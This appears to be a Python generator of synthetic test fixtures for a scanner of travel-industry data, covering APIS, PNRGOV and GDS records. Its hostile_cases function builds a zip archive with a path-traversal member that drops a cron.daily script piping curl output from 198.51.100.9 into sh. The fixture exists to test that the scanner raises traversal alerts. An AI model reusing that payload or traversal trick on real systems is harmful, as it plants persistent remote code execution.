    # reader gives the SSR elements of a body labelled lines: src/extract/iata.c)
    key("mbox_docs", r, None, planted_under=pp(g1))


# ---------------------------------------------------------------- hostile touches
def hostile_cases():
    ep = [traveller() for _ in range(2)]
    if hc.have("7z"):
        r = put(AIR + "/apis/archive/apis_2014-11.7z",
                D.sevenz([("PAXLST_SK0401.edi", paxlst(ep, ref="000000106", flight="SK0401"))],
                         ["-t7z", "-pSkyw4ys2014", "-mhe=off"]))
        key("apis_7z_member", r, ["PAXLST_SK0401.edi"], coverage="none", reasons_all=["encrypted"])
        key("apis_7z_alert", r, None, alerts_under=["encrypted"])
    zp = traveller()
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z0:
        z = hc.FixedZip(z0)
        z.writestr("pnrgov/PNRGOV_0117.edi", pnrgov([dict(zp, email_ctce=ctce(zp["email"]))]))
        z.writestr("../../../../etc/cron.daily/skyways-sync", b"#!/bin/sh\ncurl -s http://198.51.100.9/s | sh\n")
    r = put(AIR + "/tmp/pnr_export.zip", b.getvalue())
    key("zip_climb_alert", r, None, alerts_under=["path_traversal"])
    key("zip_climb_root", r, [], verdict="hostile")
    key("zip_climb_member", r, ["pnrgov/PNRGOV_0117.edi"], exact=pp(zp))


def charset_cases():
    # a PAXLST in ISO 8859-1 (UNB+UNOC) whose birth date is only in a Latin-1 remark ("née le
    # 14.03.1975", no DTM+329): a birth date only when read in the page the syntax identifier names (as
    # UTF-8 the é is a replaced byte and the label is lost)
    cp = traveller()
    body = paxlst([cp], ref="000000107", flight="SK0512").decode()
    body = body.replace("DTM+329:%s'\n" % cp["yymmdd"], "").replace("UNB+UNOA:4+", "UNB+UNOC:3+").replace(
        "LOC+91+GBR'", "LOC+91+GBR'\nFTX+AAI+++Passag\u00e8re n\u00e9e le %s \u00e0 Lyon'" % (
            "%s.%s.%s" % (cp["dob"][8:], cp["dob"][5:7], cp["dob"][:4])), 1)
    r = put(AIR + "/apis/outbound/PAXLST_SK0512_20141124.edi", body.encode("latin-1"))
    key("paxlst_latin1", r, [], exact=pp(cp), coverage="full", verdict="sensitive")


def galileo_cases():
    # Galileo/Travelport writes the SSR glued to its code and airline (SI.P1/SSRDOCSBAHK1/...), Sabre's
    # agents enter 3DOCS/... (kept in the agent's command log)
    g, e = traveller(), traveller()
    gal = ("*R\n 1.1%s/%s MR\n 1 SK 117 Y 17DEC LHRJFK HK1  1100  1405  O*\n"
           "** SERVICE INFORMATION **\n"
           "  1   SI.P1/SSRDOCSSKHK1/P/GB/%s/GB/%s/%s/%s/%s/%s\n"
           "  2   SI.P1/SSRCTCESKHK1/%s\n"
           "  3   SI.P1/SSRCTCMSKHK1/1%s\n" % (g["LAST"], g["FIRST"], g["passport"], g["ddmonyy"], "MF"[g["n"] % 2],
                                                g["exp"], g["LAST"], g["FIRST"], ctce(g["email"]), g["phone10"]))
    r = put(AGENCY + "/gds/galileo/5TRWQ2.txt", gal.encode())
    key("galileo_glued_ssr", r, [], exact=dict(pp(g), email=[g["email"]], phone=[g["phone10"]]), verdict="sensitive")
    cmd = ("08:12:01 AGT0812 > *7QX2LM\n08:12:44 AGT0812 > 3DOCS/P/GB/%s/GB/%s/%s/%s/%s/%s-1.1\n"
           "08:12:45 AGT0812 < OK\n08:13:02 AGT0812 > 3CTCE/%s-1.1\n08:13:03 AGT0812 < OK\n08:13:10 AGT0812 > ER\n"
           % (e["passport"], e["ddmonyy"], "MF"[e["n"] % 2], e["exp"], e["LAST"], e["FIRST"], ctce(e["email"])))
    r = put(AGENCY + "/gds/sabre/agent0812_commands.log", cmd.encode())
    key("sabre_3docs_entries", r, [], exact=dict(pp(e), email=[e["email"]]), verdict="sensitive")


def generate(out):
    """Build OUT/dump and OUT/key.json; return the key."""
    _npp[0] = 0
    return D.generate(out, (edifact_cases, pnr_cases, bcbp_cases, mrz_cases, hotel_cases, mail_cases, hostile_cases,
                                  charset_cases, galileo_cases))


CORPUS = {  # fuzz seeds: dump path -> (harness, seed name)
    AIR + "/apis/outbound/PAXLST_SK0117_20141124.edi": ("edifact", "h16_paxlst.edi"),
    AIR + "/apis/outbound/PAXLST_SK0221_20141124.edi": ("edifact", "h16_paxlst_oneline.edi"),
    AIR + "/pnrgov/outbound/PNRGOV_CA_20141124_0800.edi": ("edifact", "h16_pnrgov_una.edi"),
    AIR + "/pnrgov/outbound/PNRGOV_CA_20141124_0900.edi": ("edifact", "h16_pnrgov.edi"),
    AIR + "/apis/failed/PAXLST_SK0305_20141124.edi.part": ("edifact", "h16_paxlst_cut.edi"),
    AGENCY + "/gds/queues/Q8/7QX2LM.txt": ("pnr", "h16_amadeus.txt"),
    AGENCY + "/gds/sabre/7QX2LM_sabre.txt": ("pnr", "h16_sabre.txt"),
    AGENCY + "/gds/history/8ZK4PQ_history.log": ("pnr", "h16_history.log"),
    AGENCY + "/gds/galileo/5TRWQ2.txt": ("pnr", "h16_galileo.txt"),
    AGENCY + "/gds/sabre/agent0812_commands.log": ("pnr", "h16_sabre_entries.log"),
}


def corpus(outdir):
    """Copy the fuzz seeds (fuzz/corpus/<harness>/h16_*) into OUTDIR."""
    hc.corpus_copy(generate, hc.by_harness(CORPUS), outdir)


if __name__ == "__main__":
    hc.main(generate, corpus)
